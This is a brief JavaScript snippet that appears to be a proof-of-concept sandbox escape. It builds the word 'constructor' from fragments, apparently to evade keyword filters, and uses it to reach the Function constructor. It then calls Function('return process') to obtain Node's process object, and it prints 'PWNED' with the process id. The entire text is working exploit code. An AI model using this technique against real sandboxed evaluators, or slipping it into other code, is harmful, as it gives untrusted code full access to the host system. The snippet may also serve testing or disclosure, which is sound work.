const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
const o = { ...t };
const { go: g = fn } = o;
console.log('PWNED', g(fn)('return process')().pid);
